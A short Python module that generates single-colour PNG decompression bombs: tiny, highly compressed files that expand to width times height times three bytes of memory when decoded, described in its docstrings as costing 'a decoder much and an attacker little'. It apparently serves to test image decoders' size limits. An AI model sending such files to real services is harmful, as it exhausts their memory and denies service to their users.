"""Pictures that cost a decoder much and an attacker little."""
import struct
import zlib


def png(width, height):
    """One colour, 24 bits a pixel: three bytes of memory for about a thousandth of one on the wire."""
    def chunk(kind, data):
        return struct.pack('>I', len(data)) + kind + data + struct.pack('>I', zlib.crc32(kind + data))

    packer, packed = zlib.compressobj(9), []
    row = b'\0' + b'\x7f' * (width * 3)
    for _ in range(height):
        packed.append(packer.compress(row))
    packed.append(packer.flush())
    header = struct.pack('>IIBBBBB', width, height, 8, 2, 0, 0, 0)
    return b'\x89PNG\r\n\x1a\n' + chunk(b'IHDR', header) + chunk(b'IDAT', b''.join(packed)) + chunk(b'IEND', b'')
